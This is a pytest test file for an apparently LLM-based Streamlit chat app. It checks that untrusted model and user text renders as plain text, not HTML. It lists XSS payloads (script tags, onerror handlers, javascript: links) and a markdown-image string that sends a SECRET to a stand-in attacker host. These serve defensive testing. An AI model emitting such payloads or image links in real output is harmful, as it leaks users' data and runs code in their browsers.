"""Untrusted text stays inert: no page can render model or user text as HTML."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from dmac_core.config import PROJECT_ROOT, Config
from dmac_core.logs.store import LearningStore

ATTACKS = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">link</a>',
]
UI_FILES = [PROJECT_ROOT / "app.py", *sorted((PROJECT_ROOT / "pages").glob("*.py"))]


@pytest.mark.parametrize("path", UI_FILES, ids=lambda p: p.name)
def test_no_page_passes_non_literal_text_to_html_rendering(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "attr", getattr(node.func, "id", ""))
        if name == "html":
            assert all(isinstance(a, ast.Constant) for a in node.args), f"{path.name}:{node.lineno} st.html with text"
        for keyword in node.keywords:
            if keyword.arg == "unsafe_allow_html":
                allowed = isinstance(keyword.value, ast.Constant) and keyword.value.value is False
                literal_only = all(isinstance(a, ast.Constant) for a in node.args)
                assert allowed or literal_only, f"{path.name}:{node.lineno} unsafe_allow_html with non-literal text"


def test_attack_strings_render_as_text_on_every_page(app_env: Config) -> None:
    tiny_config = app_env
    store = LearningStore(tiny_config.data_path, fsync=False)
    for attack in ATTACKS:
        row = store.append_interaction(model="deepseek", prompt=attack, response=attack)
        store.append_feedback(interaction_id=row.id, rating=2, feedback=attack, correction=attack)
    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=120)
    at.run()
    at.session_state["chat_history"] = [
        {"role": "user", "content": a} for a in ATTACKS[:1]
    ] + [
        {"role": "assistant", "content": a, "model": "deepseek", "model_version": "base", "route_reason": a,
         "interaction_id": f"id{i}"} for i, a in enumerate(ATTACKS)
    ]
    pages = ["pages/chat.py", "pages/feedback.py", "pages/training.py", "pages/metrics.py"]
    for page in pages:
        at.switch_page(page).run()
        assert not at.exception, (page, at.exception)
        for element in at.markdown:
            assert element.proto.allow_html is False, (page, element.value)
    at.switch_page("pages/chat.py").run()
    rendered = [m.value for m in at.markdown]
    for attack in ATTACKS:
        assert attack in rendered  # shown verbatim, as text


def test_markdown_images_from_models_are_shown_as_text_not_loaded() -> None:
    from dmac_core.views.inert import inert_markdown

    leak = "Sure! ![](https://attacker.example/?q=SECRET) and ![logo][r]\n\n[r]: https://attacker.example/x.png"
    assert "![" not in inert_markdown(leak).replace("!\\[", "")
    assert inert_markdown(leak).count("!\\[") == 2
    code = "Use this:\n```rust\nlet v = vec![1, 2];\n```\nor `vec![3]` then ![x](data:image/png;base64,AAAA)"
    assert inert_markdown(code) == code.replace("![x](data:", "!\\[x](data:")
    # a streamed answer cut inside a code block keeps its code as written
    assert inert_markdown("```\nlet v = vec![1") == "```\nlet v = vec![1"
